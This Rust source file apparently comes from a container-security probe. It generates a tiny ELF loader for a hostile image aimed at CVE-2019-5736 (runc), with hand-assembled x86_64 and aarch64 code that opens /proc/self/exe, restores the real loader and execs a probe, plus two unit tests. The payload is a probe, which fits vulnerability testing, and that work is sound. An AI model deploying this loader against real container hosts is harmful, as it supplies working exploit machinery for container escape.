//! The loader of an image that means harm (CVE-2019-5736): it keeps the program that it is to
//! load open, puts the true loader back in its own place, and becomes the probe, with the
//! same arguments.
//!
//! It runs before there is a library, so it is written in machine code. The numbers of the
//! system calls are the processor's own, and aarch64 has none of the older calls: of `open`
//! and `rename` it knows those that take a directory.

use std::os::unix::ffi::OsStrExt;
use std::path::Path;

/// Whether the image's loader is written for this processor.
pub(super) const IS_WRITTEN: bool = !CODE.is_empty();

/// What the code names, in this order; behind it comes the path of the true loader's place.
const TEXTS: &[u8] = b"/proc/self/exe\0/true\0/bin/probe\0";

#[cfg(target_arch = "x86_64")]
const MACHINE: u8 = 0x3e;
#[cfg(target_arch = "x86_64")]
#[rustfmt::skip]
const CODE: &[u8] = &[
    0x48, 0x8d, 0x3d, 0x35, 0x00, 0x00, 0x00, // lea  rdi, "/proc/self/exe"
    0x31, 0xf6,                               // xor  esi, esi: O_RDONLY
    0xb8, 0x02, 0x00, 0x00, 0x00,             // mov  eax, 2: open
    0x0f, 0x05,                               // syscall: it is descriptor 3
    0x48, 0x8d, 0x3d, 0x34, 0x00, 0x00, 0x00, // lea  rdi, "/true"
    0x48, 0x8d, 0x35, 0x3e, 0x00, 0x00, 0x00, // lea  rsi, the loader's path
    0xb8, 0x52, 0x00, 0x00, 0x00,             // mov  eax, 82: rename
    0x0f, 0x05,                               // syscall
    0x48, 0x8d, 0x3d, 0x25, 0x00, 0x00, 0x00, // lea  rdi, "/bin/probe"
    0x48, 0x8d, 0x74, 0x24, 0x08,             // lea  rsi, [rsp + 8]: the arguments
    0x31, 0xd2,                               // xor  edx, edx: no environment
    0xb8, 0x3b, 0x00, 0x00, 0x00,             // mov  eax, 59: execve
    0x0f, 0x05,                               // syscall
    0x0f, 0x0b,                               // ud2: it has failed
];

#[cfg(target_arch = "aarch64")]
const MACHINE: u8 = 0xb7;
#[cfg(target_arch = "aarch64")]
#[rustfmt::skip]
const CODE: &[u8] = &[
    0x60, 0x0c, 0x80, 0x92, // mov  x0, -100: AT_FDCWD
    0x01, 0x02, 0x00, 0x10, // adr  x1, "/proc/self/exe"
    0x02, 0x00, 0x80, 0xd2, // mov  x2, 0: O_RDONLY
    0x08, 0x07, 0x80, 0xd2, // mov  x8, 56: openat
    0x01, 0x00, 0x00, 0xd4, // svc: it is descriptor 3
    0x60, 0x0c, 0x80, 0x92, // mov  x0, -100
    0xc1, 0x01, 0x00, 0x70, // adr  x1, "/true"
    0x62, 0x0c, 0x80, 0x92, // mov  x2, -100
    0x23, 0x02, 0x00, 0x10, // adr  x3, the loader's path
    0xc8, 0x04, 0x80, 0xd2, // mov  x8, 38: renameat
    0x01, 0x00, 0x00, 0xd4, // svc
    0x60, 0x01, 0x00, 0x30, // adr  x0, "/bin/probe"
    0xe1, 0x23, 0x00, 0x91, // add  x1, sp, 8: the arguments
    0x02, 0x00, 0x80, 0xd2, // mov  x2, 0: no environment
    0xa8, 0x1b, 0x80, 0xd2, // mov  x8, 221: execve
    0x01, 0x00, 0x00, 0xd4, // svc
    0x00, 0x00, 0x00, 0x00, // udf: it has failed
];

#[cfg(not(any(target_arch = "x86_64", target_arch = "aarch64")))]
const MACHINE: u8 = 0;
#[cfg(not(any(target_arch = "x86_64", target_arch = "aarch64")))]
const CODE: &[u8] = &[];

/// An executable of one segment, which is all of the file (elf(5)), and a whole page, of the
/// largest there are: older kernels clear what is left of a loader's last one, and this one is
/// not to be written to.
pub(super) fn program(true_place: &Path) -> Vec<u8> {
    const BASE: u64 = 0x40_0000;
    const HEADERS: u64 = 64 + 56;
    const PAGE: u64 = 0x1_0000;
    let mut file = Vec::new();
    // 64 bits, little-endian, version 1; an executable, for this processor.
    file.extend(b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0");
    file.extend([MACHINE, 0, 1, 0, 0, 0]);
    let entry_and_tables = [BASE + HEADERS, 64, 0];
    file.extend(entry_and_tables.iter().flat_map(|it| it.to_le_bytes()));
    // No flags; the size of this header; one program header, and its size; no sections.
    file.extend(b"\0\0\0\0\x40\0\x38\0\x01\0\0\0\0\0\0\0");
    // To be loaded, readable and executable.
    file.extend(b"\x01\0\0\0\x05\0\0\0");
    let segment = [0, BASE, BASE, PAGE, PAGE, PAGE];
    file.extend(segment.iter().flat_map(|it| it.to_le_bytes()));
    file.extend(CODE);
    file.extend(TEXTS);
    file.extend(true_place.as_os_str().as_bytes());
    file.resize(PAGE as usize, 0);
    file
}

#[cfg(test)]
#[allow(clippy::unwrap_used, reason = "a test may")]
mod tests {
    use super::*;

    /// What elf(5) says of the processor, in a program that runs here.
    #[test]
    fn it_is_for_the_processor_that_we_run_on() {
        let own = std::fs::read("/proc/self/exe").unwrap();
        assert_eq!(program(Path::new("/lib/x"))[18..20], own[18..20]);
    }

    #[test]
    fn it_says_where_the_true_loader_belongs() {
        let program = program(Path::new("/some/where/loader.so"));
        let place = b"/bin/probe\0/some/where/loader.so\0";
        assert!(program.windows(place.len()).any(|it| it == place));
    }
}
